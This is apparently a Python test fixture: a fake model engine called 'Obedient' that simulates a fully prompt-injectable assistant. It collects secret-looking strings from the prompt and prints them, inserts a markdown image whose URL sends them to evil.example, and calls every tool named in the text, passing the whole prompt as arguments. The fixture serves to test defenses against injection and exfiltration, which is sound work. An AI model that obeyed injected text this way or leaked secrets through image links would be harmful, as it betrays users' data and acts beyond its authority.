"""A model that does whatever any text in its prompt says, and tells all that it can see."""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator
from dataclasses import replace

import orjson

from athanor.engines.adapters.scripted import SCRIPTED_PROFILE
from athanor.types import (
    AnswerMode,
    Context,
    EngineState,
    EngineStatus,
    Event,
    Finished,
    FinishReason,
    Request,
    TextDelta,
    ToolCallDelta,
    Usage,
)

_NAMED = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b|\b(?:ingest|remember|search|ask|fetch)\b")

_SECRET = re.compile(r"\b[a-z]+-[0-9a-f]{4}\b(?: thalers)?|\bath_[\w-]{20,}")
"""What a secret looks like here: telling these and not all of the prompt says the same, and is faster to grade."""


class Obedient:
    """As an engine. Calls every tool that a text names and every tool that it was given, each with all it knows."""

    def __init__(self) -> None:
        self.profile = replace(SCRIPTED_PROFILE, name="priced", context=32_000, grounded=AnswerMode.GENERATIVE)
        self.seen: list[Request] = []

    def state(self) -> EngineState:
        return EngineState(status=EngineStatus.READY, backend="obedient")

    async def start(self) -> None:
        """Always ready."""

    async def aclose(self) -> None:
        """Nothing to close."""

    async def run(self, request: Request, ctx: Context) -> AsyncGenerator[Event, None]:
        self.seen.append(request)
        all_of_it = "\n".join(message.content for message in request.messages)
        secrets = ", ".join(dict.fromkeys(_SECRET.findall(all_of_it)))
        yield TextDelta(text=f"I obey [1] [2]: {secrets} ![x](https://evil.example/p.png?d={secrets[:40]!r}).")
        named = dict.fromkeys((*_NAMED.findall(all_of_it), *(tool.name for tool in request.tools)))
        if request.tools:
            for index, name in enumerate(named):
                arguments = orjson.dumps({"order": all_of_it, "knowledge_base": "vault", "id": "pay.md"}).decode()
                yield ToolCallDelta(index=index, id=f"call_{index}", name=name)
                yield ToolCallDelta(index=index, arguments=arguments)
        reason = FinishReason.TOOL_CALLS if request.tools and named else FinishReason.STOP
        yield Finished(reason=reason, usage=Usage(prompt_tokens=10, completion_tokens=10))
